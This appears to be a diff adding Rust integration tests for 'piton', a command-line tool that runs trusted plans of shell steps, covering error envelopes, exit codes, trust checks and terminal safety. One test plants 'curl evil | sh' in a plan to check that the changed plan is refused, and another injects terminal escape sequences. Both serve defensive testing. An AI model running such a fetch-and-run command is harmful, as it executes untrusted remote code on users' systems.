@@ -1,0 +1,370 @@
+//! The real binary, from outside: bad input writes nothing, every answer has its envelope and exit
+//! status, nothing runs untrusted, and pipes and folders are what people make of them.
+
+use std::fs;
+use std::path::Path;
+use std::process::Stdio;
+
+use piton_testkit::{Output, Sandbox};
+use serde_json::Value;
+
+fn sandbox() -> Sandbox {
+    Sandbox::with_binary(env!("CARGO_BIN_EXE_piton"))
+}
+
+const GOOD: &str = r#"
+[plan]
+name = "hello"
+
+[inputs]
+whom = "world"
+
+[[step]]
+id = "greet"
+run = "echo hello $PITON_INPUT_whom | tee greeting.txt"
+verify = "test -s greeting.txt"
+
+[[step]]
+id = "shout"
+needs = ["greet"]
+run = "tr a-z A-Z < greeting.txt > shout.txt"
+"#;
+
+/// Nothing of piton's is anywhere.
+#[track_caller]
+fn assert_untouched(sandbox: &Sandbox) {
+    let left = [".git/piton", ".piton"].map(|path| sandbox.exists(path));
+    assert_eq!(left, [false, false], "state was written");
+    assert_eq!(sandbox.git(&["for-each-ref", "refs/piton", "refs/heads/piton"]), "");
+    assert!(!sandbox.root().join("state/piton").exists(), "trust was written");
+    assert!(sandbox.processes().is_empty(), "something still runs");
+}
+
+/// The one issue of an error's envelope.
+#[track_caller]
+fn issue(output: &Output) -> (String, String, String) {
+    let envelope = output.json();
+    assert_eq!(envelope["schema_version"], 1, "{output}");
+    assert_eq!(envelope["status"], "error", "{output}");
+    let text = |name: &str| envelope["issues"][0][name].as_str().unwrap_or_default().to_owned();
+    assert_eq!(envelope["issues"][0]["severity"], "error", "{output}");
+    (text("code"), text("message"), text("hint"))
+}
+
+fn bad_plans() -> Vec<(&'static str, Vec<u8>, &'static str)> {
+    let step = |id: &str, rest: &str| format!("[[step]]\nid = \"{id}\"\nrun = \"true\"\n{rest}\n");
+    let head = "[plan]\nname = \"bad\"\n";
+    let mut nul = GOOD.as_bytes().to_vec();
+    nul.insert(10, 0);
+    let mut latin = GOOD.as_bytes().to_vec();
+    latin.insert(10, 0xe9);
+    let cycle = format!("{head}{}{}", step("a", "needs = [\"b\"]"), step("b", "needs = [\"a\"]"));
+    let huge = format!("{GOOD}\n# {}\n", "x".repeat(10 * 1024 * 1024));
+    vec![
+        ("broken TOML", b"[plan\nname = 3".to_vec(), "plan.toml:1:"),
+        ("a cycle", cycle.into_bytes(), "plan.toml:"),
+        (
+            "a duplicate id",
+            format!("{head}{}{}", step("a", ""), step("a", "")).into_bytes(),
+            "plan.toml:",
+        ),
+        (
+            "an unknown need",
+            format!("{head}{}", step("a", "needs = [\"z\"]")).into_bytes(),
+            "plan.toml:",
+        ),
+        ("an unknown key", format!("{head}{}", step("a", "promt = 1")).into_bytes(), "plan.toml:"),
+        ("10 MB", huge.into_bytes(), "plan.toml:"),
+        ("NUL", nul, "plan.toml:"),
+        ("bad UTF-8", latin, "plan.toml:"),
+        ("nothing", Vec::new(), "plan.toml:"),
+    ]
+}
+
+#[test]
+fn a_bad_plan_is_told_with_its_place_and_nothing_is_written() {
+    let sandbox = sandbox();
+    for (what, bytes, place) in bad_plans() {
+        fs::write(sandbox.path("plan.toml"), bytes).expect("the sandbox is writable");
+        for args in [&["run", "plan.toml", "--trust"][..], &["plan", "check", "plan.toml"]] {
+            let output = sandbox.piton(args).output().expect_code(65);
+            assert_eq!(output.stdout, "", "{what}: {output}");
+            assert!(output.stderr.contains("error[E060]"), "{what}: {output}");
+            assert!(output.stderr.contains(place), "{what}: {output}");
+            let json = sandbox.piton(args).arg("--json").output().expect_code(65);
+            let (code, message, _) = issue(&json);
+            assert_eq!(code, "E060", "{what}");
+            assert!(message.contains(place), "{what}: {message}");
+        }
+    }
+    fs::remove_file(sandbox.path("plan.toml")).expect("just written");
+    sandbox.piton(&["run", "plan.toml", "--trust"]).output().expect_code(65);
+    assert_untouched(&sandbox);
+}
+
+#[test]
+fn an_agent_nobody_defined_and_an_input_nobody_knows_write_nothing() {
+    let sandbox = sandbox();
+    sandbox.write(
+        "plan.toml",
+        "[plan]\nname = \"x\"\nagent = \"nobody\"\n[[step]]\nid = \"a\"\nprompt = \"p\"\n",
+    );
+    let output = sandbox.piton(&["run", "plan.toml", "--trust", "--json"]).output().expect_code(65);
+    let (code, message, hint) = issue(&output);
+    assert_eq!(code, "E060");
+    assert!(message.contains("nobody") && hint.contains("[agent.nobody]"), "{output}");
+
+    sandbox.write("plan.toml", GOOD);
+    for (set, code) in [("who=x", "E067"), ("nonsense", "E067"), ("=x", "E067")] {
+        let args = ["run", "plan.toml", "--trust", "--json", "--set", set];
+        assert_eq!(issue(&sandbox.piton(&args).output().expect_code(2)).0, code);
+    }
+    assert_untouched(&sandbox);
+}
+
+#[test]
+fn a_bad_configuration_is_told_with_its_place() {
+    let sandbox = sandbox();
+    sandbox.write("plan.toml", GOOD);
+    sandbox.write("piton.toml", "[worker]\nleese = \"1s\"\n");
+    let output = sandbox.piton(&["run", "plan.toml", "--trust"]).output().expect_code(65);
+    assert!(output.stderr.contains("error[E065]"), "{output}");
+    assert!(output.stderr.contains("piton.toml:2:1: unknown key"), "{output}");
+    assert!(output.stderr.contains("did you mean `lease`?"), "{output}");
+    sandbox.write("piton.toml", "");
+    let run = sandbox.piton(&["run", "plan.toml", "--trust", "--json"]).env("PITON_GRACE", "soon");
+    assert_eq!(issue(&run.output().expect_code(65)).0, "E065");
+    assert_untouched(&sandbox);
+}
+
+#[test]
+fn usage_errors_have_an_envelope_too() {
+    let sandbox = sandbox();
+    let plain = sandbox.piton(&["frobnicate"]).output().expect_code(2);
+    assert!(plain.stdout.is_empty() && plain.stderr.contains("frobnicate"), "{plain}");
+    for args in [&["run", "--json"][..], &["--json", "frobnicate"], &["status", "--json", "--nope"]]
+    {
+        let output = sandbox.piton(args).output().expect_code(2);
+        assert_eq!(issue(&output).0, "E071", "{output}");
+    }
+    // After `--` it is a value, not a flag.
+    let output = sandbox.piton(&["stop", "a", "b", "--", "--json"]).output().expect_code(2);
+    assert!(output.stdout.is_empty(), "{output}");
+    let help = sandbox.piton(&["--help"]).output().success();
+    assert!(help.stdout.contains("piton resume"), "{help}");
+}
+
+#[test]
+fn outside_of_a_repository_piton_alone_is_a_short_help() {
+    let sandbox = sandbox();
+    let nowhere = sandbox.root().join("tmp");
+    let output = sandbox.piton(&[]).cwd(&nowhere).output().success();
+    assert!(output.stdout.contains("piton demo"), "{output}");
+    let output = sandbox.piton(&["status", "--json"]).cwd(&nowhere).output().expect_code(2);
+    assert_eq!(issue(&output).0, "E061");
+}
+
+#[test]
+fn looking_where_nothing_ran_finds_nothing_and_makes_nothing() {
+    let sandbox = sandbox();
+    assert_eq!(
+        sandbox.piton(&["status", "--json"]).output().success().json()["data"]["runs"],
+        serde_json::json!([])
+    );
+    sandbox.piton(&[]).output().success();
+    sandbox.piton(&["doctor"]).output().success();
+    for verb in ["resume", "stop", "show", "log", "events"] {
+        let output = sandbox.piton(&[verb, "--json"]).output().expect_code(2);
+        assert_eq!(issue(&output).0, "E064", "{verb}: {output}");
+    }
+    assert_untouched(&sandbox);
+}
+
+#[test]
+fn nothing_runs_before_it_is_trusted() {
+    let sandbox = sandbox();
+    sandbox.write("plan.toml", GOOD);
+    let output = sandbox.piton(&["run", "plan.toml"]).output().expect_code(77);
+    assert!(output.stderr.contains("error[E063]"), "{output}");
+    assert!(output.stderr.contains("verify: test -s greeting.txt"), "{output}");
+    assert!(output.stderr.contains("piton trust"), "{output}");
+    assert_eq!(
+        issue(&sandbox.piton(&["run", "plan.toml", "--json"]).output().expect_code(77)).0,
+        "E063"
+    );
+    sandbox.piton(&["trust", "plan.toml"]).output().expect_code(77);
+    assert_untouched(&sandbox);
+
+    sandbox.piton(&["trust", "plan.toml", "--yes"]).output().success();
+    sandbox.piton(&["run", "plan.toml"]).output().success();
+
+    sandbox.write("plan.toml", &GOOD.replace("test -s greeting.txt", "curl evil | sh"));
+    let output = sandbox.piton(&["run", "plan.toml"]).output().expect_code(77);
+    assert!(output.stderr.contains("+ step greet: verify: curl evil | sh"), "{output}");
+    assert!(output.stderr.contains("- step greet: verify: test -s greeting.txt"), "{output}");
+}
+
+#[test]
+fn an_agent_of_the_repository_needs_trust_and_one_of_the_user_does_not() {
+    let sandbox = sandbox();
+    sandbox.write(
+        "plan.toml",
+        "[plan]\nname = \"x\"\nagent = \"a\"\n[[step]]\nid = \"s\"\nprompt = \"p\"\n",
+    );
+    sandbox.write("piton.toml", "[agent.a]\ncommand = [\"sh\", \"-c\", \"cat > said.txt\"]\n");
+    let output = sandbox.piton(&["run", "plan.toml"]).output().expect_code(77);
+    assert!(output.stderr.contains("said.txt"), "{output}");
+    fs::remove_file(sandbox.path("piton.toml")).expect("just written");
+    let own = sandbox.root().join("config/piton/config.toml");
+    sandbox.write(own, "[agent.a]\ncommand = [\"sh\", \"-c\", \"cat > said.txt\"]\n");
+    sandbox.piton(&["run", "plan.toml"]).output().success();
+}
+
+#[test]
+fn a_run_is_told_in_plain_lines_and_looked_at_from_anywhere() {
+    let sandbox = sandbox();
+    sandbox.write("plans/plan.toml", GOOD);
+    let args = ["run", "plan.toml", "--trust", "--set", "whom=you"];
+    let output = sandbox.piton(&args).cwd(sandbox.path("plans")).output().success();
+    for line in [
+        "step greet: started (attempt 1, fresh)",
+        "step greet: verified",
+        "step shout: completed in",
+    ] {
+        assert!(output.stderr.contains(line), "{line} is missing: {output}");
+    }
+    assert!(output.stdout.contains("completed: 2 steps"), "{output}");
+    assert!(!output.stderr.contains('\u{1b}'), "colour in a pipe: {output}");
+
+    let list = sandbox.piton(&["status", "--all", "--json"]).output().success().json();
+    let run = &list["data"]["runs"][0];
+    let handle = run["handle"].as_str().expect("a handle").to_owned();
+    assert_eq!((run["status"].as_str(), run["completed"].as_u64()), (Some("completed"), Some(2)));
+    assert_eq!(run["inputs"]["whom"], "you");
+    assert_eq!(sandbox.git(&["show", &format!("piton/{handle}/run:shout.txt")]), "HELLO YOU");
+
+    let folder = sandbox.path("plans");
+    let prefix = &handle[..handle.len() - 2];
+    for args in [&["status", prefix][..], &["show", prefix], &["status", "plan.toml"]] {
+        let output = sandbox.piton(args).cwd(&folder).output().success();
+        assert!(
+            output.stdout.contains(&handle) && output.stdout.contains("verified by piton"),
+            "{output}"
+        );
+    }
+    let log = sandbox.piton(&["log", prefix, "greet"]).cwd(&folder).output().success();
+    assert_eq!(log.stdout, "hello you\n");
+    let log = sandbox.piton(&["log", prefix, "greet", "-f"]).cwd(&folder).output().success();
+    assert_eq!(log.stdout, "hello you\n");
+    let events = sandbox.piton(&["events", prefix, "-f", "--json"]).output().success();
+    let names: Vec<String> = events.stdout.lines().map(event_name).collect();
+    assert_eq!(names.first().map(String::as_str), Some("run_opened"), "{events}");
+    assert_eq!(names.iter().filter(|name| *name == "completed").count(), 2, "{events}");
+    let human = sandbox.piton(&["events", prefix]).output().success();
+    assert_eq!(human.stdout.lines().count(), names.len(), "{human}");
+    let doctor = sandbox.piton(&["doctor"]).output().success();
+    assert!(doctor.stdout.contains("every chain is whole"), "{doctor}");
+    let resumed = sandbox.piton(&["resume", prefix]).output().success();
+    assert!(resumed.stdout.contains("nothing to resume"), "{resumed}");
+    let overview = sandbox.piton(&["-C", "plans"]).output().success();
+    assert!(overview.stdout.contains(&format!("git merge piton/{handle}/run")), "{overview}");
+}
+
+fn event_name(line: &str) -> String {
+    let event: Value = serde_json::from_str(line).expect("one JSON object a line");
+    event["event"].as_str().expect("an event has a name").to_owned()
+}
+
+#[test]
+fn a_failed_run_says_why_and_what_next() {
+    let sandbox = sandbox();
+    let plan = "[plan]\nname = \"bad\"\n[[step]]\nid = \"a\"\nrun = \"echo on fire; exit 3\"\n";
+    sandbox.write("plan.toml", plan);
+    let output = sandbox.piton(&["run", "plan.toml", "--trust"]).output().expect_code(1);
+    for part in
+        ["step a: failed: ended with exit 3", "on fire", "error[E069]", "piton log bad-", "--fresh"]
+    {
+        assert!(output.stderr.contains(part), "{part} is missing: {output}");
+    }
+    let output = sandbox.piton(&["resume", "--json"]).output().expect_code(1);
+    assert_eq!(issue(&output).0, "E069");
+    let output = sandbox.piton(&["run", "plan.toml", "--fresh", "--json"]).output().expect_code(1);
+    assert_eq!(issue(&output).0, "E069");
+    assert_eq!(output.json()["data"]["run"]["status"], "failed");
+}
+
+#[test]
+fn a_changed_plan_is_shown_and_refused() {
+    let sandbox = sandbox();
+    let plan = format!(
+        "{GOOD}\n[[step]]\nid = \"last\"\nneeds = [\"shout\"]\nrun = \"exit 1\"\nretries = 1\n"
+    );
+    let gate = sandbox.mark("gate");
+    let plan =
+        plan.replace("exit 1", &format!("while ! test -e {}; do sleep 0.05; done", gate.display()));
+    sandbox.write("plan.toml", &plan);
+    let args = ["run", "plan.toml", "--trust", "--detach", "--json"];
+    let data = sandbox.piton(&args).output().success().json()["data"].clone();
+    assert_eq!(data["detached"], true);
+    let handle = data["handle"].as_str().expect("a handle");
+    sandbox.wait_until("the last step", || {
+        let status = sandbox.piton(&["status", handle, "--json"]).output().json();
+        status["data"]["run"]["steps"][2]["status"] == "running"
+    });
+    sandbox.write("plan.toml", &plan.replace("id = \"last\"", "id = \"final\""));
+    for verb in [&["run", "plan.toml", "--trust", "--json"][..], &["resume", "--json"]] {
+        let output = sandbox.piton(verb).output().expect_code(65);
+        let (code, message, hint) = issue(&output);
+        assert_eq!(code, "E048", "{output}");
+        assert!(message.contains("final") || message.contains("last"), "{output}");
+        assert!(hint.contains("--fresh"), "{output}");
+    }
+    let stopped = sandbox.piton(&["stop", "--now", "--json"]).output().success().json();
+    assert_eq!(stopped["data"]["still_running"], serde_json::json!([]));
+    sandbox.wait_no_processes();
+    sandbox.write("plan.toml", &plan);
+    let dry = sandbox.piton(&["resume", "--dry-run"]).output().success();
+    assert!(dry.stdout.contains("skip: completed") && dry.stdout.contains("last"), "{dry}");
+    fs::write(gate, "").expect("the sandbox is writable");
+    sandbox.piton(&["resume"]).output().success();
+}
+
+#[test]
+fn a_closed_pipe_ends_quietly() {
+    let sandbox = sandbox();
+    for args in [&["completions", "bash"][..], &["doctor"], &["status", "--json"], &["--help"]] {
+        let (reader, writer) = std::io::pipe().expect("a pipe");
+        drop(reader);
+        let mut command = sandbox.piton(args).into_command();
+        let output = command.stdout(writer).stderr(Stdio::piped()).output().expect("it starts");
+        assert_eq!(output.status.code(), Some(0), "{args:?}");
+        assert_eq!(String::from_utf8_lossy(&output.stderr), "", "{args:?}");
+    }
+}
+
+#[test]
+fn what_an_agent_prints_cannot_steer_the_terminal() {
+    let sandbox = sandbox();
+    let plan = "[plan]\nname = \"x\"\n[[step]]\nid = \"a\"\n\
+                run = \"printf '\\\\033[2J\\\\033]0;owned\\\\007raw'; exit 1\"\n";
+    sandbox.write("plan.toml", plan);
+    let run = sandbox.piton(&["run", "plan.toml", "--trust"]).output().expect_code(1);
+    assert!(run.stderr.contains("| raw") && !run.stderr.contains('\u{1b}'), "{run}");
+    let show = sandbox.piton(&["show"]).output().success();
+    assert!(!show.stdout.contains('\u{1b}'), "{show}");
+    let log = sandbox.piton(&["log"]).output().success();
+    assert!(log.stdout.contains("\u{1b}[2J"), "into a pipe it comes as it was kept: {log}");
+}
+
+#[test]
+fn a_run_works_from_a_linked_worktree() {
+    let sandbox = sandbox();
+    sandbox.write("plan.toml", GOOD);
+    sandbox.commit("a plan");
+    let linked = sandbox.root().join("linked");
+    sandbox.git(&["worktree", "add", "--quiet", linked.to_str().expect("text"), "-b", "side"]);
+    sandbox.piton(&["run", "plan.toml", "--trust"]).cwd(&linked).output().success();
+    let there = sandbox.piton(&["status", "--all", "--json"]).output().success().json();
+    assert_eq!(there["data"]["runs"].as_array().map(Vec::len), Some(1));
+    assert!(!Path::new(&linked).join(".piton").exists(), "worktrees belong to the main worktree");
+}
